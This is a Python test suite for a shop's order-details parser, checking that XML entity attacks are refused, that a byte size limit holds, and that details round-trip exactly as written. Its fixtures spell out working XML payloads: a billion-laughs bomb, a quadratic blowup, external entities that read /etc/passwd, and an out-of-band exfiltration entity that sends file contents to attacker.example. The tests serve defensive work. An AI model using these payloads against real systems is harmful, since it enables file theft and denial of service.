"""Order details are text from outside (a form, an API, a partner's system), so reading them must
be safe: XML attacks (entity expansion, external entities and DTDs, parameter entities) are
refused with MalformedOrderDetails, never expanded or fetched; details over MAX_DETAILS_BYTES
(counted in UTF-8 bytes) are refused before they are parsed; and what is accepted is kept
exactly as written, through the order and the shop.
"""

from __future__ import annotations

import datetime as dt
import socket
import time
from decimal import Decimal
from pathlib import Path

import attrs
import pytest
from defusedxml import DTDForbidden

from builders import catalog, empty_order
from draftorders import (
    Customer,
    DetailsFormat,
    FixedClock,
    MalformedOrderDetails,
    OrderDetails,
    Party,
    Shop,
    ShopApp,
    Status,
    ValidationError,
)
from draftorders.order.details import MAX_DETAILS_BYTES
from draftorders.shop import Ports

NOW = dt.datetime(2026, 11, 26, 9, 30, tzinfo=dt.UTC)

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<order><note>&lol9;</note></order>"""

# One 20 KB entity referenced 8,000 times: 160 MB of text from a 52 KB document, within the size
# limit, and with no nesting for an expansion-depth check to catch.
QUADRATIC_BLOWUP = (
    f'<!DOCTYPE order [<!ENTITY a "{"a" * 20_000}">]><order><note>{"&a;" * 8_000}</note></order>'
)

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE order [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<order><note>&secret;</note></order>"""

EXTERNAL_DTD = [
    '<!DOCTYPE order SYSTEM "http://attacker.example/evil.dtd"><order/>',
    '<!DOCTYPE order PUBLIC "-//EVIL//DTD Order//EN" "http://attacker.example/e.dtd"><order/>',
    '<!DOCTYPE order SYSTEM "file:///etc/passwd"><order/>',
]

PARAMETER_ENTITIES = [
    # an external parameter entity: the DTD it loads could declare anything
    '<!DOCTYPE order [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><order/>',
    # out-of-band exfiltration: a parameter entity reads a file and sends it out in a URL
    """<!DOCTYPE order [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % wrap "<!ENTITY send SYSTEM 'http://attacker.example/?%file;'>">
  %wrap;
]><order>&send;</order>""",
    # parameter entities that declare general entities
    """<!DOCTYPE order [
  <!ENTITY % decl "<!ENTITY boom 'boom'>">
  %decl;
]><order>&boom;</order>""",
]


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Fail any attempt to connect anywhere: nothing in details is ever fetched."""
    attempts: list[object] = []

    def refuse(self: socket.socket, address: object) -> None:
        attempts.append(address)
        raise AssertionError(f"order details tried to connect to {address!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


def refused(text: str, kind: DetailsFormat = DetailsFormat.XML) -> MalformedOrderDetails:
    """The error reading ``text`` as details raises (within a second: nothing is expanded)."""
    started = time.perf_counter()
    with pytest.raises(MalformedOrderDetails) as caught:
        OrderDetails(kind, text)
    assert time.perf_counter() - started < 1.0
    assert caught.value.field == "details"
    return caught.value


def make_shop() -> ShopApp:
    shop = Shop(
        catalog(),
        seller=Party(name="Tea & Mugs Co.", email="billing@teamugs.example"),
        attach_pdf=False,
    )
    return ShopApp(shop, Ports(clock=FixedClock(NOW)))


# -- XML attacks -------------------------------------------------------------------------------


def test_billion_laughs_is_refused_not_expanded() -> None:
    error = refused(BILLION_LAUGHS)
    assert "unsafe XML" in str(error)
    assert isinstance(error.__cause__, DTDForbidden)


def test_quadratic_blowup_is_refused_not_expanded() -> None:
    assert len(QUADRATIC_BLOWUP.encode()) <= MAX_DETAILS_BYTES  # not caught by the size limit
    error = refused(QUADRATIC_BLOWUP)
    assert isinstance(error.__cause__, DTDForbidden)


@pytest.mark.parametrize(
    "text",
    [
        "<!DOCTYPE order><order/>",
        "<!DOCTYPE order [<!ELEMENT order (#PCDATA)>]><order>hi</order>",
        '<!DOCTYPE order [<!ENTITY shop "Tea &amp; Mugs">]><order>&shop;</order>',
    ],
    ids=["bare", "element declaration", "one harmless entity"],
)
def test_any_dtd_is_refused_outright_even_a_harmless_one(text: str) -> None:
    error = refused(text)
    assert isinstance(error.__cause__, DTDForbidden)


def test_an_external_entity_is_refused_and_the_file_is_never_read(tmp_path: Path) -> None:
    # given a local file with a secret, and details that try to pull it in
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t-api-key")
    text = EXTERNAL_ENTITY.replace("file:///etc/passwd", secret.as_uri())
    # when / then
    for payload in (EXTERNAL_ENTITY, text):
        error = refused(payload)
        assert isinstance(error.__cause__, DTDForbidden)
        assert "s3cr3t" not in str(error)
        assert "root:" not in str(error)


@pytest.mark.parametrize("text", EXTERNAL_DTD)
def test_an_external_dtd_is_refused_and_never_fetched(text: str, no_network: list[object]) -> None:
    error = refused(text)
    assert isinstance(error.__cause__, DTDForbidden)
    assert no_network == []


@pytest.mark.parametrize("text", PARAMETER_ENTITIES, ids=["external", "exfiltration", "declare"])
def test_parameter_entities_are_refused(text: str, no_network: list[object]) -> None:
    error = refused(text)
    assert isinstance(error.__cause__, DTDForbidden)
    assert no_network == []


def test_xinclude_is_not_processed(tmp_path: Path) -> None:
    # an XInclude element is only an element: nothing is included
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t-api-key")
    text = (
        '<order xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="{secret.as_uri()}" parse="text"/></order>'
    )
    parsed = OrderDetails.xml(text).parsed()
    assert [child.tag for child in parsed] == ["{http://www.w3.org/2001/XInclude}include"]
    assert "s3cr3t" not in "".join(parsed.itertext())


def test_the_predefined_entities_and_character_references_still_work() -> None:
    parsed = OrderDetails.xml("<note>Tea &amp; Mugs &lt;3 &#8364;&#x41;</note>").parsed()
    assert parsed.text == "Tea & Mugs <3 €A"


def test_unsafe_details_never_reach_the_order() -> None:
    # given a draft with safe details
    app = make_shop()
    safe = OrderDetails.xml("<order><gift>true</gift></order>")
    order_id = app.drafts.edit(app.drafts.create().id, lambda o: o.set_details(safe)).id
    before = app.drafts.get(order_id)
    # when someone tries to swap in an attack
    with pytest.raises(MalformedOrderDetails):
        app.drafts.edit(order_id, lambda o: o.set_details(OrderDetails.xml(BILLION_LAUGHS)))
    with pytest.raises(MalformedOrderDetails):
        attrs.evolve(safe, text=EXTERNAL_ENTITY)
    with pytest.raises(MalformedOrderDetails):
        attrs.evolve(safe, format=DetailsFormat.JSON)  # the XML is not JSON
    # then
    assert app.drafts.get(order_id) == before
    assert app.drafts.get(order_id).details == safe


# -- the size limit ----------------------------------------------------------------------------


def json_of_bytes(size: int, char: str = "a") -> str:
    """A JSON string of exactly ``size`` UTF-8 bytes, of ``char`` (padded with "a")."""
    width = len(char.encode())
    count, pad = divmod(size - 2, width)
    text = '"' + char * count + "a" * pad + '"'
    assert len(text.encode()) == size
    return text


def xml_of_bytes(size: int, char: str = "a") -> str:
    """An XML document of exactly ``size`` UTF-8 bytes."""
    width = len(char.encode())
    count, pad = divmod(size - len("<n></n>"), width)
    text = "<n>" + char * count + "a" * pad + "</n>"
    assert len(text.encode()) == size
    return text


@pytest.mark.parametrize(("kind", "make"), [("json", json_of_bytes), ("xml", xml_of_bytes)])
def test_details_exactly_at_the_limit_are_accepted_one_byte_more_is_refused(
    kind: str, make: object
) -> None:
    build = getattr(OrderDetails, kind)
    at_limit = make(MAX_DETAILS_BYTES)  # type: ignore[operator]
    assert build(at_limit).text == at_limit
    error = refused(make(MAX_DETAILS_BYTES + 1), DetailsFormat(kind))  # type: ignore[operator]
    assert f"{MAX_DETAILS_BYTES + 1} bytes" in str(error)
    assert f"{MAX_DETAILS_BYTES} bytes allowed" in str(error)


@pytest.mark.parametrize("char", ["é", "€", "😀"], ids=["2 bytes", "3 bytes", "4 bytes"])
@pytest.mark.parametrize(("kind", "make"), [("json", json_of_bytes), ("xml", xml_of_bytes)])
def test_the_limit_counts_utf8_bytes_not_characters(kind: str, make: object, char: str) -> None:
    at_limit = make(MAX_DETAILS_BYTES, char)  # type: ignore[operator]
    over = make(MAX_DETAILS_BYTES + 1, char)  # type: ignore[operator]
    assert len(over) < MAX_DETAILS_BYTES  # far fewer characters than bytes
    assert OrderDetails(DetailsFormat(kind), at_limit).text == at_limit
    refused(over, DetailsFormat(kind))


def test_oversized_details_are_refused_before_they_are_parsed() -> None:
    # an entity bomb (or malformed text) over the limit is refused for its size alone
    padding = "<!-- " + "x" * MAX_DETAILS_BYTES + " -->"
    error = refused(BILLION_LAUGHS.replace("<order>", padding + "<order>"))
    assert "bytes allowed" in str(error)
    assert error.__cause__ is None
    error = refused("{" * (MAX_DETAILS_BYTES + 1), DetailsFormat.JSON)
    assert "bytes allowed" in str(error)


def test_from_data_is_held_to_the_same_limit() -> None:
    with pytest.raises(MalformedOrderDetails) as caught:
        OrderDetails.from_data({"note": "a" * MAX_DETAILS_BYTES})
    assert "bytes allowed" in str(caught.value)


# -- kept exactly as written -------------------------------------------------------------------

JSON_AS_WRITTEN = '\n  {\n\t"zeta": 1,   "alpha": [1.10, 2.500],\n  "note": "Ünïcode ✓"  }\n\n'
XML_AS_WRITTEN = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!-- from the partner portal -->\n"
    '<order  ref="A-1" >\n'
    "    <gift>  wrapped  </gift>\n"
    "    <note><![CDATA[Fragile & <heavy>]]></note>\n"
    "</order>\n"
)


@pytest.mark.parametrize(
    ("kind", "text"),
    [(DetailsFormat.JSON, JSON_AS_WRITTEN), (DetailsFormat.XML, XML_AS_WRITTEN)],
)
def test_details_are_kept_exactly_as_written(kind: DetailsFormat, text: str) -> None:
    details = OrderDetails(kind, text)
    assert details.text == text
    assert details.format is kind


@pytest.mark.parametrize(
    ("kind", "text"),
    [(DetailsFormat.JSON, JSON_AS_WRITTEN), (DetailsFormat.XML, XML_AS_WRITTEN)],
)
def test_details_round_trip_through_the_order_and_the_shop(kind: DetailsFormat, text: str) -> None:
    # given
    app = make_shop()
    ada = Customer(id="C1", name="Ada Lovelace", email="ada@example.com")
    order_id = app.drafts.edit(
        app.drafts.create(customer=ada).id,
        lambda o: o.add_product(app.shop.catalog, "MUG", 1),
        lambda o: o.set_details(OrderDetails(kind, text)),
    ).id
    # when the order is saved, sent, completed and duplicated
    app.invoicing.send(order_id)
    app.drafts.complete_unpaid(order_id)
    copy = app.drafts.duplicate(order_id)
    # then the text is the text that was given, character for character
    completed = app.drafts.get(order_id)
    assert completed.status is Status.COMPLETED
    for order in (completed, copy):
        assert order.details is not None
        assert order.details.text == text
        assert order.details.format is kind
    assert completed.details == OrderDetails(kind, text)


def test_details_are_cleared_with_none() -> None:
    order = empty_order().set_details(OrderDetails.json("{}"))
    assert order.set_details(None).details is None


def test_from_data_writes_sorted_json_and_reads_it_back() -> None:
    details = OrderDetails.from_data({"b": [1, "two"], "a": {"gift": True, "note": None}})
    assert details.text == '{"a": {"gift": true, "note": null}, "b": [1, "two"]}'
    assert details.parsed() == {"a": {"gift": True, "note": None}, "b": [1, "two"]}


def test_from_data_refuses_what_json_cannot_hold() -> None:
    for data in ({"price": Decimal("1.50")}, {"at": NOW}, {1, 2}):
        with pytest.raises(MalformedOrderDetails) as caught:
            OrderDetails.from_data(data)
        assert "not JSON-serialisable" in str(caught.value)


# -- well-formed, and read back ----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["", "   ", "{", "{'a': 1}", "[1,]", "{} x", '{"a": 01}', "undefined", '{"a": tru}'],
)
def test_malformed_json_is_refused(text: str) -> None:
    error = refused(text, DetailsFormat.JSON)
    assert "malformed JSON" in str(error)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain text",
        "<order>",
        "<order></orders>",
        "<order/><order/>",
        "<order>&undeclared;</order>",
        "<order a='1' a='2'/>",
        "<order>\x00</order>",
        '{"json": "not xml"}',
    ],
)
def test_malformed_xml_is_refused(text: str) -> None:
    error = refused(text)
    assert "malformed or unsafe XML" in str(error)


def test_text_that_is_not_a_string_is_refused() -> None:
    for text in (b"{}", None, 42):
        with pytest.raises(MalformedOrderDetails):
            OrderDetails.json(text)  # type: ignore[arg-type]


def test_a_format_that_is_not_a_details_format_is_refused() -> None:
    with pytest.raises(ValidationError):
        OrderDetails("json", "{}")  # type: ignore[arg-type]


def test_json_numbers_read_back_exactly_floats_as_decimal() -> None:
    details = OrderDetails.json(
        '{"price": 12.30, "rate": 1e-2, "big": 12345678901234567890.123456789, "qty": 2,'
        ' "items": [0.1, 0.2]}'
    )
    parsed = details.parsed()
    assert parsed == {
        "price": Decimal("12.30"),
        "rate": Decimal("0.01"),
        "big": Decimal("12345678901234567890.123456789"),
        "qty": 2,
        "items": [Decimal("0.1"), Decimal("0.2")],
    }
    assert str(parsed["price"]) == "12.30"  # the digits as written
    assert isinstance(parsed["qty"], int)
    assert sum(parsed["items"]) == Decimal("0.3")


def test_xml_reads_back_as_an_element() -> None:
    parsed = OrderDetails.xml(XML_AS_WRITTEN).parsed()
    assert (parsed.tag, parsed.get("ref")) == ("order", "A-1")
    assert parsed.findtext("gift") == "  wrapped  "
    assert parsed.findtext("note") == "Fragile & <heavy>"


# -- found while testing: inputs that escape as the wrong error, or as floats ------------------


@pytest.mark.parametrize("text", ['{"x": NaN}', "[Infinity]", "[-Infinity]"])
def test_nan_and_infinity_are_not_json(text: str) -> None:
    refused(text, DetailsFormat.JSON)


def test_from_data_refuses_nan() -> None:
    with pytest.raises(MalformedOrderDetails):
        OrderDetails.from_data({"x": float("nan")})


def test_a_huge_integer_is_refused_as_malformed_details() -> None:
    refused("9" * 5000, DetailsFormat.JSON)


def test_deeply_nested_json_is_refused_as_malformed_details() -> None:
    refused("[" * 20_000 + "]" * 20_000, DetailsFormat.JSON)


def test_deeply_nested_xml_within_the_limit_is_read() -> None:
    parsed = OrderDetails.xml("<a>" * 9_000 + "</a>" * 9_000).parsed()
    assert parsed.tag == "a"


def test_xml_with_a_lone_surrogate_is_refused_as_malformed_details() -> None:
    refused("<note>\ud800</note>")
